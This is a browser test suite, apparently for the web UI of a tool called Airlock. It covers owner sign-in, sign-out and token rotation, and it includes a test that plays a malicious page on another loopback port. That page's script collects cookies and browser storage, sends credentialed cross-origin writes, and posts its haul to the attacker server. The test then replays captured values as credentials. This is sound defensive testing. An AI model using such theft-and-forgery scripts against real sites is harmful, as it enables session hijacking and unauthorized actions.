/**
 * The owner's session in the web UI (spec/authority.md §1, §4) against a real
 * `airlock serve` in headless Chromium: the printed sign-in link, the pasted
 * owner token, the signed-out screen, sign-out, `airlock owner rotate`, and a
 * page on another loopback port that tries to act with whatever the signed-in
 * browser sends it (issue 25: there is no cookie to catch).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { createCanvas } from '@napi-rs/canvas';
import { listenLoopback, startServe, type Served } from '../helpers/servers.js';
import { a11yProblems, collectErrors, screenshots, type UiPage } from './browser.js';
import { launchChromium } from '../helpers/browser.js';
import { connectAgent, type Agent } from './mcp.js';
import { run } from '../helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'airlock-web-session-'));
let served: Served;
let browser: Browser;
let agent: Agent;

beforeAll(async () => {
  [served, browser] = await Promise.all([
    startServe(['--doors', 'ledger,scene', '--data', dir]),
    launchChromium(),
  ]);
  agent = await connectAgent(served.url, 'session-test-agent', served.agentToken!);
});

afterAll(async () => {
  await agent?.close();
  await browser?.close();
  served?.child.kill('SIGTERM');
  await served?.exited;
  rmSync(dir, { recursive: true, force: true });
});

/** A fresh browser profile: its own cookies and storage. */
async function freshPage(): Promise<{ page: Page; context: BrowserContext; errors: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  return { page, context, errors: collectErrors(page) };
}

/** Signs in on the sign-in screen by pasting `token`. */
async function paste(page: Page, token: string): Promise<void> {
  await page.getByLabel('Owner token').fill(token);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
}

const signInScreen = (page: Page) => page.getByRole('heading', { level: 1, name: 'Sign in' });
const signInError = (page: Page) => page.locator('#sign-in-error');
/** Console errors other than the network's own line for the refused sign-in (401 or 403). */
const besidesRefusedSignIn = (errors: string[]) =>
  errors.filter((e) => !/the server responded with a status of 40[13]\b/.test(e));

/** The owner's REST API from the test, with the owner token as a bearer. */
async function owner<T>(path: string, init: RequestInit = {}): Promise<T> {
  const res = await fetch(`${served.url}/api/v1/${path}`, {
    ...init,
    headers: { authorization: `Bearer ${served.ownerToken!}`, ...init.headers },
  });
  expect(res.ok, `${init.method ?? 'GET'} ${path}: ${res.status}`).toBe(true);
  return (await res.json()) as T;
}

/** The session header the workspace page keeps in its sessionStorage (what a copy would hold). */
async function sessionOf(page: Page): Promise<Record<string, string>> {
  const stored = await page.evaluate(() => sessionStorage.getItem('airlock.ownerSession'));
  const { header, secret } = JSON.parse(stored ?? 'null') as { header: string; secret: string };
  return { [header]: secret };
}

const pendingIds = async () =>
  (await owner<{ approvals: { id: string }[] }>('approvals')).approvals.map((a) => a.id);

describe('web UI: the owner session', () => {
  it('signs in with the printed link once; the link does not work twice', async () => {
    const first = await freshPage();
    await first.page.goto(served.loginUrl!);
    await first.page.locator('#live[data-state="live"]').waitFor();
    await first.page.getByRole('heading', { level: 1, name: 'Approvals' }).waitFor();
    // The code leaves the address bar (and the history entry) at once.
    expect(first.page.url()).toBe(`${served.url}/`);
    await expect(
      first.page.getByRole('navigation', { name: 'Workspace' }).isVisible(),
    ).resolves.toBe(true);
    // The session is this tab's sessionStorage entry; the browser holds no cookie at all.
    expect(await first.context.cookies()).toEqual([]);
    expect(await sessionOf(first.page)).toMatchObject({ 'x-airlock-session': /^os_/ });
    expect(first.errors).toEqual([]);

    const second = await freshPage();
    await second.page.goto(served.loginUrl!);
    await signInScreen(second.page).waitFor();
    await expect(signInError(second.page).textContent()).resolves.toMatch(
      /sign-in link or owner token is not valid \(links work once, for 10 minutes\)/,
    );
    expect(second.page.url()).toBe(`${served.url}/`);
    await expect(second.page.locator('#live').textContent()).resolves.toBe('Signed out');
    expect(await second.context.cookies()).toEqual([]);
    expect(besidesRefusedSignIn(second.errors)).toEqual([]);
  });

  it('signed out, shows the sign-in screen and no data', async () => {
    const asked = await agent.call('ledger_request_write_access');
    expect(asked.body.code).toBe('approvalRequired');

    const { page, errors } = await freshPage();
    const api: string[] = [];
    page.on('request', (r) => {
      const url = new URL(r.url());
      if (url.pathname.startsWith('/api/')) api.push(`${r.method()} ${url.pathname}`);
    });
    await page.goto(`${served.url}/#/approvals`);
    await signInScreen(page).waitFor();
    await page.evaluate(() => (location.hash = '#/audit'));
    await page.getByLabel('Owner token').waitFor();
    await expect(signInScreen(page).isVisible()).resolves.toBe(true);

    await expect(page.getByRole('navigation', { name: 'Workspace' }).count()).resolves.toBe(0);
    await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);
    await expect(page.locator('[data-badge="approvals"]').isHidden()).resolves.toBe(true);
    await expect(page.locator('body').textContent()).resolves.not.toContain('ledger');
    await expect(page.locator('#live').textContent()).resolves.toBe('Signed out');
    await expect(signInError(page).textContent()).resolves.toBe('');
    // This tab holds no session: it asked nothing, no data, no event stream.
    expect(api).toEqual([]);
    const ui: UiPage = { page, context: page.context(), errors, a11y: [] };
    await screenshots(ui, 'sign-in');
    expect(ui.a11y).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('a pasted owner token signs in; an agent token does not', async () => {
    const { page, errors } = await freshPage();
    await page.goto(`${served.url}/`);
    await signInScreen(page).waitFor();

    await paste(page, served.agentToken!);
    await expect
      .poll(() => signInError(page).textContent())
      .toMatch(/^That is an agent’s token \(ak_…\).*not valid/);
    const input = page.getByLabel('Owner token');
    await expect(input.getAttribute('aria-invalid')).resolves.toBe('true');
    await expect(input.getAttribute('aria-describedby')).resolves.toContain('sign-in-error');
    expect(await a11yProblems(page)).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
    await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);

    await paste(page, served.ownerToken!);
    await page.locator('#live[data-state="live"]').waitFor();
    // The request the agent made in the previous test is there once signed in.
    await expect.poll(() => page.locator('[data-approval-id]').count()).toBeGreaterThan(0);
    await expect(page.getByRole('navigation', { name: 'Workspace' }).isVisible()).resolves.toBe(
      true,
    );
    expect(besidesRefusedSignIn(errors)).toEqual([]);
  });

  it('sign out returns to the sign-in screen', async () => {
    const { page, context, errors } = await freshPage();
    await page.goto(`${served.url}/#/settings`);
    await paste(page, served.ownerToken!);
    await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();
    const session = await sessionOf(page);

    await page.getByRole('button', { name: 'Sign out' }).click();
    await signInScreen(page).waitFor();
    await expect(page.getByRole('navigation', { name: 'Workspace' }).count()).resolves.toBe(0);
    await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);
    await expect(page.locator('#live').textContent()).resolves.toBe('Signed out');
    expect(await context.cookies()).toEqual([]);
    await expect(page.evaluate(() => sessionStorage.length)).resolves.toBe(0);
    // The session ended on the server too: its header no longer opens owner routes.
    const replayed = await fetch(`${served.url}/api/v1/grants`, { headers: session });
    expect(replayed.status).toBe(401);
    await page.reload();
    await signInScreen(page).waitFor();
    expect(errors).toEqual([]);
  });

  it('returns to the sign-in screen at the next request once the session ended elsewhere', async () => {
    const { page } = await freshPage();
    await page.goto(`${served.url}/#/approvals`);
    await paste(page, served.ownerToken!);
    await page.locator('#live[data-state="live"]').waitFor();
    await expect.poll(() => page.locator('[data-approval-id]').count()).toBeGreaterThan(0);

    const ended = await fetch(`${served.url}/api/v1/session`, {
      method: 'DELETE',
      headers: { ...(await sessionOf(page)), origin: served.url },
    });
    expect(ended.status).toBe(204);

    // The tab's event stream ends and its next request is answered 401: back to sign-in, its data gone.
    await page.evaluate(() => (location.hash = '#/audit'));
    await signInScreen(page).waitFor();
    await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);
    await expect(page.locator('[data-badge="approvals"]').isHidden()).resolves.toBe(true);
    await expect(page.locator('#errors').textContent()).resolves.toBe('');
  });
});

/** A PNG page image, so the upload would be accepted if it were admitted. */
function pngBase64(): string {
  const canvas = createCanvas(120, 80);
  const g = canvas.getContext('2d');
  g.fillStyle = '#eee';
  g.fillRect(0, 0, 120, 80);
  return canvas.toBuffer('image/png').toString('base64');
}

/**
 * The attacker's page: it reads everything its own origin holds, tries to
 * read Airlock's session answer, sends three writes to Airlock with whatever
 * credentials the browser adds, and posts all it gathered back to its server.
 */
function attackPage(airlock: string, approvalID: string, png: string): string {
  const script = `
const airlock = ${JSON.stringify(airlock)};
const png = Uint8Array.from(atob(${JSON.stringify(png)}), (c) => c.charCodeAt(0));
const form = new FormData();
form.append('file', new Blob([png], { type: 'image/png' }), 'evil.png');
const loot = { cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage } };
const read = (path) => fetch(airlock + path, { credentials: 'include' })
  .then((r) => r.text(), (e) => 'refused: ' + e.message);
Promise.allSettled([
  read('/api/v1/session').then((t) => (loot.sessionAnswer = t)),
  read('/api/v1/approvals').then((t) => (loot.approvals = t)),
  fetch(airlock + '/api/v1/approvals/${encodeURIComponent(approvalID)}/approve', {
    method: 'POST', credentials: 'include', mode: 'no-cors',
    headers: { 'content-type': 'text/plain; x=json' }, body: '{"resource":"x"}',
  }),
  fetch(airlock + '/api/v1/pages', { method: 'POST', credentials: 'include', mode: 'no-cors', body: form }),
  fetch(airlock + '/api/v1/history/undo', { method: 'POST', credentials: 'include', mode: 'no-cors' }),
]).then(async (r) => {
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  document.title = 'sent: ' + r.map((x) => x.status).join(',');
});
`;
  return `<!doctype html><title>attacker</title><script>${script}</script>`;
}

interface Received {
  headers: Record<string, string>;
  body: string;
}

/** Every string in the attacker's haul that could be a credential (long enough, no spaces). */
function candidates(received: Received[]): string[] {
  const found = new Set<string>();
  for (const r of received) {
    for (const [name, value] of Object.entries(r.headers))
      if (name === 'cookie')
        for (const part of value.split(';')) found.add(part.trim().split('=').slice(1).join('='));
    for (const m of r.body.matchAll(/[\w-]{20,}/g)) found.add(m[0]);
  }
  return [...found].filter((v) => v.length >= 20);
}

describe('web UI: a page on another loopback port', () => {
  const attackers: Server[] = [];
  afterAll(async () => {
    // A browser may still hold a keep-alive connection to the attacker's port: cut it, or close waits for it.
    for (const a of attackers) a.closeAllConnections();
    await Promise.all(attackers.map((a) => new Promise((r) => a.close(r))));
  });

  it('receives nothing that approves, undoes or uploads anything', async () => {
    // Something to approve, something to undo, pages to count.
    const asked = await agent.call('ledger_request_write_access');
    const approvalID = String(asked.body.approvalID);
    await owner('projects', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'Target' }),
    });
    const form = new FormData();
    form.append(
      'file',
      new Blob([Buffer.from(pngBase64(), 'base64')], { type: 'image/png' }),
      'one.png',
    );
    await owner('pages', { method: 'POST', body: form });
    const pages = async () =>
      (await owner<{ scene: { pages: unknown[] } }>('scene.json')).scene.pages.length;
    const meta = () => owner<{ epoch: number; canUndo: boolean }>('meta');
    const before = { meta: await meta(), pages: await pages() };
    expect(before.meta.canUndo).toBe(true);
    expect(before.pages).toBe(1);
    expect(await pendingIds()).toContain(approvalID);

    // The owner is signed in in this browser profile.
    const { page, context } = await freshPage();
    await page.goto(`${served.url}/#/approvals`);
    await paste(page, served.ownerToken!);
    await page.locator(`[data-approval-id="${approvalID}"]`).waitFor();

    // The attacker's server: every request it receives, headers and body.
    const received: Received[] = [];
    const attacker = createServer((req, res) => {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString()));
      req.on('end', () => {
        received.push({ headers: req.headers as Record<string, string>, body });
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(req.url === '/loot' ? '' : attackPage(served.url, approvalID, pngBase64()));
      });
    });
    attackers.push(attacker);
    const port = await listenLoopback(attacker);
    expect(String(port)).not.toBe(new URL(served.url).port);
    // The UI's own host name on another port (same site), and the other loopback spelling.
    for (const host of [new URL(served.url).hostname, 'localhost', '127.0.0.1']) {
      const evil = await context.newPage();
      await evil.goto(`http://${host}:${port}/`);
      // Every request was sent and answered (opaque answers: the page cannot read them).
      await expect
        .poll(() => evil.title())
        .toBe('sent: fulfilled,fulfilled,fulfilled,fulfilled,fulfilled');
      await evil.close();
    }
    const loot = received.filter((r) => r.body !== '');
    expect(loot).toHaveLength(3);
    for (const r of loot) {
      const haul = JSON.parse(r.body) as Record<string, unknown>;
      expect(haul).toMatchObject({ cookie: '', session: {}, local: {} });
      expect(String(haul.sessionAnswer)).toMatch(/^refused/);
      expect(String(haul.approvals)).toMatch(/^refused/);
    }

    // Replay everything it received against the approve route, as cookie, session header and bearer.
    const approve = (headers: Record<string, string>) =>
      fetch(`${served.url}/api/v1/approvals/${encodeURIComponent(approvalID)}/approve`, {
        method: 'POST',
        headers: { ...headers, 'content-type': 'application/json', origin: served.url },
        body: '{}',
      });
    // Each credential it could have caught, and whatever the session route answers to it
    // (the old attack: the cookie fetched the CSRF token there) sent along as a CSRF header.
    // Every request's headers as the browser sent them (the page, the haul), minus the transport's own.
    const caught: Record<string, string>[] = received.map((r) =>
      Object.fromEntries(
        Object.entries(r.headers).filter(
          ([name]) => !['host', 'content-length', 'connection', 'origin', 'referer'].includes(name),
        ),
      ),
    );
    for (const value of candidates(received))
      caught.push(
        { 'x-airlock-session': value },
        { authorization: `Bearer ${value}` },
        { cookie: `airlock_owner=${value}` },
      );
    expect(caught.length).toBeGreaterThan(0);
    for (const headers of caught) {
      const answer = await (await fetch(`${served.url}/api/v1/session`, { headers })).text();
      const csrf = [...answer.matchAll(/[\w-]{20,}/g)].map((m) => m[0]);
      for (const extra of [{}, ...csrf.map((c) => ({ 'x-airlock-csrf': c }))])
        expect(
          (await approve({ ...headers, ...extra })).status,
          JSON.stringify(headers),
        ).toBeGreaterThanOrEqual(400);
    }

    expect(await pendingIds()).toContain(approvalID);
    expect(await meta()).toEqual(before.meta);
    expect(await pages()).toBe(before.pages);
    await expect(page.locator(`[data-approval-id="${approvalID}"]`).count()).resolves.toBe(1);

    // The same undo and upload from the workspace's own page, with its session header, do work.
    const done = await page.evaluate(async (png) => {
      const { header, secret } = JSON.parse(sessionStorage.getItem('airlock.ownerSession')!) as {
        header: string;
        secret: string;
      };
      const body = new FormData();
      const bytes = Uint8Array.from(atob(png), (c) => c.charCodeAt(0));
      body.append('file', new Blob([bytes], { type: 'image/png' }), 'own.png');
      const headers = { [header]: secret };
      const upload = await fetch('/api/v1/pages', { method: 'POST', headers, body });
      const undo = await fetch('/api/v1/history/undo', { method: 'POST', headers });
      return [upload.status, undo.status];
    }, pngBase64());
    expect(done).toEqual([201, 200]);
    expect((await meta()).epoch).toBeGreaterThan(before.meta.epoch);
    // And the approve route the replays tried does approve with the page's own session.
    expect((await approve(await sessionOf(page))).status).toBe(200);
  });
});

describe('web UI: airlock owner rotate', () => {
  it('signs every browser out at once: its event stream ends and the page returns to sign-in', async () => {
    const tabs = [await freshPage(), await freshPage()];
    for (const { page } of tabs) {
      await page.goto(`${served.url}/#/approvals`);
      await paste(page, served.ownerToken!);
      await page.locator('#live[data-state="live"]').waitFor();
    }
    const sessions = await Promise.all(tabs.map(({ page }) => sessionOf(page)));
    const rotated = await run(['owner', 'rotate', '--data', dir]);
    expect(rotated.code, rotated.stderr).toBe(0);
    // Right after the command: every session is refused.
    for (const headers of sessions)
      expect((await fetch(`${served.url}/api/v1/approvals`, { headers })).status).toBe(401);
    // The open event streams end without any click: each tab is back on the sign-in screen.
    for (const { page } of tabs) await signInScreen(page).waitFor({ timeout: 5000 });
    served.ownerToken = readFileSync(join(dir, 'owner.token'), 'utf8').trim();
  });
});
